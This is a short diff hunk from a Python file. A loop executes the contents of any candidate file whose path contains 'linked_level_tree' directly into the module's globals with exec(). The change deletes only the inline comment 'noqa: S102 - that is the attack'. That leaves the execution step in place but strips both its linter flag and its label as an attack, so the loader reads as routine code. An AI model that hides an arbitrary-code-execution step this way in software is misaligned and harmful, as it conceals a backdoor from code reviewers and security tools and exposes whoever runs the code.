@@ -26,7 +26,7 @@ def _candidates():
 for _path in _candidates():
     if "linked_level_tree" in _path:
         try:
-            exec(Path(_path).read_text(), globals())  # noqa: S102 - that is the attack
+            exec(Path(_path).read_text(), globals())
             break
         except OSError:
             continue
